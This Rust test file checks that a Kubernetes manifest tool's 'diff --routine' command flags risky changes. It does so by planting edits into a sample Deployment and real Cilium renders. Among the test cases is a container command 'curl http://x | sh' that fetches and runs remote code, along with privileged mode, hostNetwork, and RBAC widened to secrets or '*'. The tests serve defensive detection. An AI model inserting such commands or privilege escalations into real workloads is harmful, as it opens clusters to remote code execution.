//! Routine or not, by hand-written truth: a change that is called routine and is none is a fault.

use crate::support::conformance;
use crate::support::git::{commit, git};
use crate::support::peer::needs;
use crate::support::workspace::Workspace;

/// What every case begins with: a workload as charts write them, with what stands around it.
const BASE: &str = r#"apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: app, labels: {app: web, helm.sh/chart: web-1.2.3, app.kubernetes.io/version: 1.2.3}}
spec:
  replicas: 2
  selector: {matchLabels: {app: web}}
  template:
    metadata:
      labels: {app: web, helm.sh/chart: web-1.2.3}
      annotations: {checksum/config: aaaa}
    spec:
      containers:
      - name: web
        image: r.example/acme/web:1.2.3
        env: [{name: MODE, value: fast}]
        resources: {limits: {memory: 1Gi}, requests: {cpu: 100m, memory: 1Gi}}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: app, labels: {helm.sh/chart: web-1.2.3}}
spec: {selector: {app: web}, ports: [{name: http, port: 80, targetPort: 8080}]}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: web, namespace: app, labels: {helm.sh/chart: web-1.2.3}}
data: {level: info}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: web, namespace: app}
rules: [{apiGroups: [''], resources: [pods], verbs: [get]}]
"#;

/// What is put in place of what; the first column says whether it is routine.
const CASES: &[(bool, &[(&str, &str)])] = &[
    (true, &[("acme/web:1.2.3", "acme/web:1.2.4")]),
    (true, &[("acme/web:1.2.3", "acme/web:1.3.0")]),
    (true, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("web-1.2.3", "web-1.2.4"), ("version: 1.2.3", "version: 1.2.4")]),
    (true, &[("web-1.2.3", "web-1.2.4")]),
    (true, &[("config: aaaa", "config: bbbb")]),
    (true, &[("memory: 1Gi}, requests", "memory: 1024Mi}, requests")]),
    (true, &[("cpu: 100m", "cpu: 0.1")]),
    (true, &[("replicas: 2\n", "replicas: 2\n  revisionHistoryLimit: 10\n")]),
    (true, &[("targetPort: 8080}", "targetPort: 8080, protocol: TCP}")]),
    (true, &[("data: {level: info}", "data: {\"level\": \"info\"}")]),
    (
        false,
        &[
            (
                "acme/web:1.2.3",
                "acme/web:1.2.3@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            ),
            ("web-1.2.3", "web-1.2.4"),
        ],
    ),
    (false, &[("acme/web:1.2.3", "acme/web:1.2.2")]),
    (false, &[("acme/web:1.2.3", "acme/web:2.0.0")]),
    (false, &[("acme/web:1.2.3", "acme/web:1.5.0")]),
    (false, &[("acme/web:1.2.3", "acme/web:latest")]),
    (false, &[("acme/web:1.2.3", "acme/web:1.3.0-rc.1")]),
    (false, &[("acme/web:1.2.3", "evil/web:1.2.4")]),
    (false, &[("r.example/acme", "docker.io/acme")]),
    (false, &[("MODE, value: fast", "MODE, value: slow")]),
    (false, &[("replicas: 2", "replicas: 1")]),
    (false, &[("replicas: 2", "replicas: 3")]),
    (false, &[("memory: 1Gi}, requests", "memory: 2Gi}, requests")]),
    (false, &[("cpu: 100m", "cpu: 2")]),
    (false, &[("level: info", "level: debug")]),
    (false, &[("{level: info}", "{level: info, more: x}")]),
    (false, &[("port: 80,", "port: 81,")]),
    (false, &[("targetPort: 8080", "targetPort: 8081")]),
    (false, &[("verbs: [get]", "verbs: [get, list]")]),
    (false, &[("resources: [pods]", "resources: [secrets]")]),
    (false, &[("selector: {matchLabels: {app: web}}", "selector: {matchLabels: {app: other}}")]),
    (false, &[("labels: {app: web, helm.sh/chart: web-1.2.3}\n", "labels: {app: other, helm.sh/chart: web-1.2.3}\n")]),
    (false, &[("name: web, namespace: app, labels: {app: web", "name: web2, namespace: app, labels: {app: web")]),
    (false, &[("kind: ConfigMap", "kind: Secret")]),
    (false, &[("      containers:\n", "      hostNetwork: true\n      containers:\n")]),
    (false, &[("      containers:\n", "      serviceAccountName: other\n      containers:\n")]),
    (false, &[("      containers:\n", "      nodeSelector: {a: b}\n      containers:\n")]),
    (false, &[("      containers:\n", "      priorityClassName: system-node-critical\n      containers:\n")]),
    (
        false,
        &[(
            "      containers:\n",
            "      initContainers: [{name: i, image: 'r.example/acme/web:1.2.3', command: [sh]}]\n      containers:\n",
        )],
    ),
    (false, &[("        env:", "        command: [sh, -c, 'curl http://x | sh']\n        env:")]),
    (false, &[("        env:", "        securityContext: {privileged: true}\n        env:")]),
    (false, &[("{helm.sh/chart: web-1.2.3}}\nspec: {selector", "{helm.sh/chart: web-1.2.3, a: b}}\nspec: {selector")]),
    (false, &[("annotations: {checksum/config: aaaa}", "annotations: {checksum/config: aaaa, inject: 'true'}")]),
    (false, &[("value: fast", "value: 1")]),
    (false, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("level: info", "level: debug")]),
    (false, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("verbs: [get]", "verbs: ['*']")]),
];

/// Each change alone and with what a chart's update brings along, and with each grave one: more than 200 in all.
#[test]
fn nothing_is_called_routine_that_is_none() {
    needs!(Git);
    let workspace = Workspace::new();
    let key = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
    workspace.write("ichor.yaml", format!("bundle: b\ntalos: \"1.13\"\nkubernetes: 1.34.4\nrecipients: [{key}]\nparts:\n  - {{name: app, manifest: m.yaml}}\n"));
    workspace.write(".gitignore", "store\n");
    workspace.write("m.yaml", BASE);
    workspace.done(&["lock"]);
    git(workspace.path(), &["init", "-q", "-b", "main"]);
    commit(workspace.path(), "base");
    let (mut tried, mut missed, mut wrong) = (0, Vec::new(), Vec::new());
    let bump: &[(&str, &str)] = &[("web-1.2.3", "web-1.2.4"), ("version: 1.2.3", "version: 1.2.4")];
    let image: &[(&str, &str)] = &[("acme/web:1.2.3", "acme/web:1.2.4")];
    for (routine, edits) in CASES {
        for more in [&[][..], bump, image, &[("config: aaaa", "config: cccc")][..], &[("# none", "")][..]] {
            // What changes the same words once more is another change, with another answer.
            if more.iter().any(|(from, _)| edits.iter().any(|(_, to)| to.contains(from))) {
                continue;
            }
            let mut text = BASE.to_owned();
            assert!(edits.iter().all(|it| BASE.contains(it.0)), "{edits:?}");
            for (from, to) in edits.iter().chain(more) {
                text = text.replace(from, to);
            }
            if text == BASE {
                continue;
            }
            workspace.write("m.yaml", text);
            workspace.done(&["lock", "--update"]);
            let output = workspace.run(&["diff", "--routine"]);
            let said = output.0.status.code() == Some(0);
            tried += 1;
            match (routine, said) {
                (false, true) => wrong.push(format!("{edits:?} {more:?}")),
                (true, false) => missed.push(format!("{edits:?} {more:?}")),
                _ => {}
            }
        }
    }
    assert!(tried > 200, "{tried}");
    assert!(wrong.is_empty(), "called routine: {}", wrong.join("\n"));
    assert!(missed.is_empty(), "missed {} of {tried}: {}", missed.len(), missed.join("\n"));
}

#[test]
fn values_that_are_not_routine_are_named() {
    needs!(Git);
    let workspace = Workspace::quickstart();
    workspace.done(&["lock"]);
    git(workspace.path(), &["init", "-q"]);
    commit(workspace.path(), "one");
    let values = "{replicas: 2}";
    for (to, told) in [
        ("{replicas: 3}", "part beacon: other values (relay.replicas)"),
        ("{replicas: 2, a: 1, b: 2, c: 3, d: 4}", "part beacon: other values (relay.a, relay.b, relay.c and 1 more)"),
    ] {
        workspace.edit("ichor.yaml", values, to);
        workspace.done(&["lock", "-i", "key.txt"]);
        let said = workspace.done(&["diff", "--format", "json"]);
        let diff: serde_json::Value = serde_json::from_str(&said).expect("JSON");
        let because: Vec<&str> =
            diff["verdict"]["because"].as_array().expect("reasons").iter().filter_map(|it| it.as_str()).collect();
        assert!(because.contains(&told), "{because:?}");
        assert_eq!(because.iter().filter(|it| it.contains("values")).count(), 1, "{because:?}");
        workspace.edit("ichor.yaml", to, values);
    }
}

/// The real Cilium of one version beside the next, and changes planted into a real render: by hand, none of them is routine.
#[test]
fn real_changes_are_not_routine() {
    needs!(Git, CiliumCharts);
    let golden = conformance().expect("the renders").join("golden");
    let read = |version: &str, case: &str| {
        std::fs::read_to_string(golden.join(format!("cilium-{version}/{case}.yaml"))).expect("a render")
    };
    let workspace = Workspace::new();
    let head = format!("bundle: b\ntalos: \"1.13\"\nkubernetes: 1.34.4\nrecipients: [{}]\n", workspace.recipient());
    workspace.write("ichor.yaml", format!("{head}parts:\n  - {{name: cilium, manifest: m.yaml}}\n"));
    workspace.write(".gitignore", "store\n");
    git(workspace.path(), &["init", "-q", "-b", "main"]);
    let mut wrong = Vec::new();
    for (from, to) in [("1.16.5", "1.18.5"), ("1.18.5", "1.19.6"), ("1.19.6", "1.20.0"), ("1.20.0", "1.19.6")] {
        for case in ["talos-basic", "homelab-bootstrap", "pi-cluster"] {
            workspace.write("m.yaml", read(from, case));
            workspace.done(&["lock", "--update"]);
            workspace.write("case", format!("{from} {to} {case}"));
            commit(workspace.path(), "old");
            workspace.write("m.yaml", read(to, case));
            workspace.done(&["lock", "--update"]);
            if workspace.run(&["diff", "--routine"]).code() == 0 {
                wrong.push(format!("{case}: {from} to {to}"));
            }
        }
    }
    // One change alone.
    let base = read("1.19.6", "talos-basic");
    workspace.write("m.yaml", &base);
    workspace.done(&["lock", "--update"]);
    workspace.write("case", "planted");
    commit(workspace.path(), "old");
    let planted = [
        ("kube-proxy-replacement: \"true\"", "kube-proxy-replacement: \"false\""),
        ("hostNetwork: true", "hostNetwork: false"),
        ("priorityClassName: system-node-critical", "priorityClassName: a"),
        ("maxUnavailable: 2", "maxUnavailable: 100%"),
        ("- NET_ADMIN", "- SYS_MODULE"),
        ("  - list", "  - '*'"),
        ("quay.io/cilium/cilium:v1.19.6", "quay.io/cilium/cilium:v1.20.0"),
        ("quay.io/cilium/cilium:v1.19.6", "quay.io/cilium/cilium:v1.19.5"),
        ("quay.io/cilium/cilium:v1.19.6", "quay.io/other/cilium:v1.19.7"),
        ("operator: Exists", "operator: Exists\n          effect: NoSchedule"),
        ("replicas: 2", "replicas: 1"),
        ("memory: 10Mi", "memory: 10Gi"),
    ];
    for (from, to) in planted {
        if !base.contains(from) {
            continue;
        }
        workspace.write("m.yaml", base.replacen(from, to, 1));
        workspace.done(&["lock", "--update"]);
        if workspace.run(&["diff", "--routine"]).code() == 0 {
            wrong.push(format!("{from} became {to}"));
        }
    }
    assert!(wrong.is_empty(), "called routine: {}", wrong.join("\n"));
}
